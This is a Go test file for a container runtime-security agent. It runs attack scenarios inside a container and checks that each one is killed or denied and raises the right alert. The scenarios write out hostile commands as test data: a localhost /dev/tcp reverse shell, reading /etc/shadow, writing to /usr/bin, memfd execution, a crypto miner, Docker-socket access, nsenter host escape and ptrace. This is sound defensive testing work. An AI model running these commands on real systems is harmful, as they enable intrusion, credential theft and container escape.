package daemon

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/bulwark-sec/bulwark/internal/defend/event"
	"github.com/bulwark-sec/bulwark/internal/defend/rules"
	"github.com/bulwark-sec/bulwark/internal/testutil"
)

// alertWait is how long a check waits for an expected alert.
const alertWait = 20 * time.Second

// alertFor returns the alerts of rule in container id.
func alertFor(a *agent, id, rule string) []event.Alert {
	return a.col.findAlerts(func(al *event.Alert) bool {
		return al.Rule == rule && al.Event.Container != nil && al.Event.Container.ID == id
	})
}

// wantAlert checks one alert of rule: its container, image and process,
// and how it was answered.
func wantAlert(t *testing.T, a *agent, id, img, rule, proc string, resp event.Response, detail string) *event.Alert {
	t.Helper()
	// A kill from user space, or an alert held up by a busy machine, can
	// come after the ring buffer is drained: wait for it a while.
	al := alertFor(a, id, rule)
	for deadline := time.Now().Add(alertWait); len(al) == 0 && time.Now().Before(deadline); {
		time.Sleep(50 * time.Millisecond)
		al = alertFor(a, id, rule)
	}
	if len(al) == 0 {
		t.Errorf("no %s alert", rule)
		dumpAlerts(t, a, id)
		return nil
	}
	x := &al[0]
	if x.Event.Container.Image != img {
		t.Errorf("%s: image %q, want %q", rule, x.Event.Container.Image, img)
	}
	if proc != "" && x.Event.Process.Comm != proc {
		t.Errorf("%s: process %q, want %q", rule, x.Event.Process.Comm, proc)
	}
	if x.Response != resp || !strings.Contains(x.Detail, detail) {
		t.Errorf("%s: response %s (%s), want %s (…%s…)", rule, x.Response, x.Detail, resp, detail)
	}
	return x
}

func dumpAlerts(t *testing.T, a *agent, id string) {
	for _, x := range a.col.findAlerts(func(al *event.Alert) bool { return al.Event.Container != nil && al.Event.Container.ID == id }) {
		t.Logf("  alert: %s %s %s: %s", x.Rule, x.Response, x.Detail, x.Event.String())
	}
}

func noAlerts(t *testing.T, a *agent, id string) {
	t.Helper()
	if al := a.col.findAlerts(func(al *event.Alert) bool { return al.Event.Container != nil && al.Event.Container.ID == id }); len(al) > 0 {
		t.Errorf("benign container raised %s: %s", al[0].Rule, al[0].Event.String())
	}
}

func wantOut(t *testing.T, out, s string) {
	t.Helper()
	if !strings.Contains(out, s) {
		t.Errorf("output lacks %q:\n%s", s, out)
	}
}

const inKernel = "killed in the kernel"
const fromUser = "killed from user space"

func enforceScenarios(img, sock string) []scenario {
	return []scenario{
		{name: "reverse-shell", cmd: `tool listen 127.0.0.1:4444 & sleep 1; bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; sh <&3 >&3 2>&3; echo rc=$?'; wait`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				wantAlert(t, a, id, img, "reverse-shell", "sh", event.Kill, fromUser)
			}},
		{name: "shadow", cmd: `cat /etc/shadow; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				if strings.Contains(out, "root:") {
					t.Error("the shadow file was read")
				}
				wantAlert(t, a, id, img, "read-shadow", "cat", event.Kill, inKernel)
			}},
		{name: "write-usr-bin", cmd: `sh -c 'echo planted > /usr/bin/evil'; echo rc=$?; echo "content=[$(cat /usr/bin/evil)]"`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				wantOut(t, out, "content=[]")
				wantAlert(t, a, id, img, "write-below-binary-dir", "sh", event.Kill, inKernel)
			}},
		{name: "package-manager", cmd: `dpkg -l; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				wantAlert(t, a, id, img, "package-manager-in-container", "dpkg", event.Kill, inKernel)
			}},
		{name: "tmp-drop", cmd: `sleep 5; cp /usr/bin/ls /tmp/dropped; /tmp/dropped /; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "Operation not permitted")
				wantOut(t, out, "rc=126")
				x := wantAlert(t, a, id, img, "exec-from-writable-dir", "", event.Deny, "EPERM")
				if x != nil && (x.Event.Ret != -1 || x.Event.Process.Exe != "/tmp/dropped") {
					t.Errorf("denied exec: ret %d exe %q", x.Event.Ret, x.Event.Process.Exe)
				}
			}},
		{name: "memfd", cmd: `tool memfd /usr/bin/sleep 60; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				wantAlert(t, a, id, img, "exec-from-memfd", "", event.Kill, fromUser)
			}},
		{name: "miner", cmd: `xmrig sleep 60s; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				wantAlert(t, a, id, img, "miner-process", "xmrig", event.Kill, inKernel)
			}},
		{name: "docker-socket", args: []string{"-v", sock + ":/var/run/docker.sock"}, cmd: `tool unix /var/run/docker.sock; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				if strings.Contains(out, "unix:") {
					t.Error("the socket answered")
				}
				wantAlert(t, a, id, img, "docker-socket-from-container", "tool", event.Kill, inKernel)
			}},
		{name: "mount-nsenter", args: hostEscapeArgs, cmd: `mount -t tmpfs none /mnt; echo mount=$?; nsenter -t $HOSTPID -m sleep 60; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				wantAlert(t, a, id, img, "setns-in-container", "nsenter", event.Kill, fromUser)
				// mount(8) usually exits before a kill from user space lands.
				al := alertFor(a, id, "mount-in-container")
				if len(al) == 0 || (al[0].Response != event.Kill && !strings.Contains(al[0].Detail, "already exited")) {
					t.Errorf("mount: %+v", al)
				}
			}},
		{name: "ptrace", cmd: `tool sleep 20s & p=$!; until [ "$(cat /proc/$p/comm)" = tool ]; do sleep 0.05; done; tool ptrace $p; echo rc=$?; kill $p`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=137")
				wantAlert(t, a, id, img, "ptrace-in-container", "tool", event.Kill, inKernel)
			}},
		// Benign counterparts: the same image doing ordinary work raises nothing.
		{name: "benign", cmd: `cat /etc/hostname >/dev/null; echo x > /tmp/ok; ls /usr/bin >/dev/null; worker sleep 10ms; echo hi | sh -c cat >/dev/null; /usr/bin/true; echo rc=$?`,
			check: func(t *testing.T, a *agent, id, out string, code int) {
				wantOut(t, out, "rc=0")
				noAlerts(t, a, id)
			}},
	}
}

// TestEnforceDefaultRules runs the attacks under the default rules in
// enforce mode: each is stopped (killed in the kernel where the rule is
// kernel-checkable, from user space otherwise, or refused with EPERM) and
// reported with its rule, container, image and process.
func TestEnforceDefaultRules(t *testing.T) {
	img := attackImage(t)
	sock := testutil.NeedDocker(t)
	set, err := rules.Load(context.Background(), nil, true)
	if err != nil {
		t.Fatal(err)
	}
	a := startAgent(t, Options{Judge: NewRulesJudge(set), Enforce: true})
	runScenarios(t, a, img, enforceScenarios(img, sock))
}
